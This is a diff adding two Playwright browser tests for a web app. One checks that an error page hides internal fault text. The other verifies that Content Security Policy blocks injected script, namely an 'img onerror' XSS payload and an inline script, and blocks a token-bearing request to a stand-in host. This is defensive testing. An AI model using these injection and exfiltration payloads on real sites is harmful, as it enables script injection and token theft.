@@ -1,0 +1,68 @@
+import { expect, test } from '../product/journey.ts'
+
+test('a page that breaks says so and leads home, and tells nothing of its inside', async ({
+  page,
+  signIn,
+  complaints,
+}) => {
+  // The console has it: whoever looks there is at the machine.
+  complaints.expect(/ApiError: the words of a fault/)
+  const secret = 'the words of a fault'
+  await page.route('**/api/graphql', (route) =>
+    route.fulfill({ json: [{ errors: [{ message: secret, extensions: { code: 'INTERNAL' } }] }] }),
+  )
+  await signIn('member')
+  await expect(page.getByRole('heading', { name: 'Oops! Something went wrong.' })).toBeVisible()
+  await expect(page.getByRole('button', { name: 'Go Back' })).toBeVisible()
+  await expect(page.getByRole('main').locator('pre')).toHaveCount(0)
+  await expect(page.getByRole('main')).not.toContainText(secret)
+
+  await page.unroute('**/api/graphql')
+  await page.getByRole('button', { name: 'Go Home' }).click()
+  await expect(page.getByRole('heading', { name: 'ZIP code lookup' })).toBeVisible()
+})
+
+test('a script that was brought into the page neither runs nor tells anything elsewhere', async ({
+  page,
+  complaints,
+}) => {
+  complaints.expect(/Content Security Policy|TrustedHTML|TrustedScript/)
+  // Whoever waits there would answer.
+  await page.route('https://elsewhere.example/**', (route) =>
+    route.fulfill({
+      contentType: 'image/svg+xml',
+      body: '<svg xmlns="http://www.w3.org/2000/svg"/>',
+      headers: { 'access-control-allow-origin': '*' },
+    }),
+  )
+  await page.goto('/login')
+  await expect(page.getByRole('heading', { name: 'Log in' })).toBeVisible()
+  const outcome = await page.evaluate(async () => {
+    const threw = (act: () => void) => {
+      try {
+        act()
+        return 'done'
+      } catch (error) {
+        return (error as Error).name
+      }
+    }
+    const markup = () =>
+      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="globalThis.ran = 1">')
+    const inline = document.createElement('script')
+    inline.append('globalThis.ran = 2')
+    const foreign = document.createElement('img')
+    foreign.src = 'https://elsewhere.example/?token=x'
+    const told = new Promise((resolve) => {
+      foreign.addEventListener('error', () => resolve('refused'))
+      foreign.addEventListener('load', () => resolve('told'))
+    })
+    const outcomes = { markup: threw(markup), script: threw(() => document.body.append(inline)) }
+    document.body.append(foreign)
+    const call = fetch('https://elsewhere.example/').then(
+      () => 'told',
+      () => 'refused',
+    )
+    return { ...outcomes, image: await told, call: await call, ran: 'ran' in globalThis }
+  })
+  expect(outcome).toMatchObject({ markup: 'TypeError', image: 'refused', call: 'refused', ran: false })
+})
